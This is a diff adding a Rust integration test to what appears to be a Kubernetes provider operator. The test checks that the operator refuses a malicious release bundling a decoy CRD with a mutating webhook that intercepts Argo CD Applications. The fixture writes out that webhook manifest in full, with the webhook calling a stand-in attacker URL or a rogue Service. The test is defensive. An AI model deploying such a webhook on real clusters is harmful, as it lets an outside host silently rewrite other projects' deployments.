@@ -178,3 +178,76 @@ async fn a_provider_object_outside_the_configured_namespaces_installs_nothing() 
     assert!(why.contains("add --provider-namespace="), "{why}");
     s.stop_operator().await;
 }
+
+/// A release that brings a decoy CRD into another project's API group (Argo CD's) and a
+/// webhook on that project's kind, called at a URL of the attacker's: once applied, it
+/// rewrote every Argo CD Application. Refused, and nothing of it is written.
+#[tokio::test]
+async fn a_webhook_on_another_projects_kind_is_refused_whatever_decoy_comes_with_it() {
+    let mut s = Scenario::new("attack-webhook").await;
+    publish(&s, "butler", "core-components.yaml", "v1.0.0", &components("butler", "v1.0.0", &[])).await;
+    let decoy_group = format!("{}.argoproj.io", s.namespace);
+    let release = |client: &str| {
+        format!(
+            "{}---\n{}---
+apiVersion: admissionregistration.k8s.io/v1
+kind: MutatingWebhookConfiguration
+metadata:
+  name: {ns}-decoy-mutating
+webhooks:
+  - name: applications.{decoy_group}
+    admissionReviewVersions: [v1]
+    sideEffects: None
+    failurePolicy: Ignore
+    clientConfig: {client}
+    rules:
+      - apiGroups: [{decoy_group}]
+        apiVersions: [v1alpha1]
+        operations: [CREATE, UPDATE]
+        resources: [applications]
+",
+            components("decoy", "v1.0.0", &[]),
+            gadget_crd(&decoy_group, "Namespaced"),
+            ns = s.namespace,
+        )
+    };
+    let by_url = release("{url: \"https://hooks.attacker.example/mutate\"}");
+    publish(&s, "infrastructure-decoy", "infrastructure-components.yaml", "v1.0.0", &by_url).await;
+    let by_service = release("{service: {name: decoy-webhook, namespace: decoy-system, path: /mutate}}");
+    publish(&s, "infrastructure-decoy", "infrastructure-components.yaml", "v1.1.0", &by_service).await;
+    s.start_operator();
+    s.create::<CoreProvider>("butler", &spec("butler")).await;
+    let mut decoy: serde_json::Value = serde_json::from_str(&selector("infrastructure-decoy")).unwrap();
+    decoy["version"] = json!("v1.0.0");
+    s.create::<InfrastructureProvider>("decoy", &decoy.to_string()).await;
+    let refused = s
+        .wait_for::<InfrastructureProvider>("decoy", "refused", |p| {
+            reason(p, "ProviderInstalled", "PolicyViolation")
+        })
+        .await;
+    let message = &condition(&refused, "ProviderInstalled").unwrap().message;
+    assert!(
+        message.contains("calls the URL \"https://hooks.attacker.example/mutate\" instead of a Service"),
+        "{message}"
+    );
+
+    s.patch_spec::<InfrastructureProvider>("decoy", json!({"version": "v1.1.0"})).await;
+    let refused = s
+        .wait_for::<InfrastructureProvider>("decoy", "refused again", |p| {
+            condition(p, "ProviderInstalled")
+                .is_some_and(|c| c.message.contains("intercepts \"applications\""))
+        })
+        .await;
+    assert!(reason(&refused, "ProviderInstalled", "PolicyViolation"), "{:?}", refused.status);
+    let crds: Api<
+        k8s_openapi::apiextensions_apiserver::pkg::apis::apiextensions::v1::CustomResourceDefinition,
+    > = Api::all(s.client.clone());
+    assert!(
+        crds.get_opt(&format!("gadgets.{decoy_group}")).await.unwrap().is_none(),
+        "nothing of it is written"
+    );
+    let hooks: Api<k8s_openapi::api::admissionregistration::v1::MutatingWebhookConfiguration> =
+        Api::all(s.client.clone());
+    assert!(hooks.get_opt(&format!("{}-decoy-mutating", s.namespace)).await.unwrap().is_none());
+    s.stop_operator().await;
+}
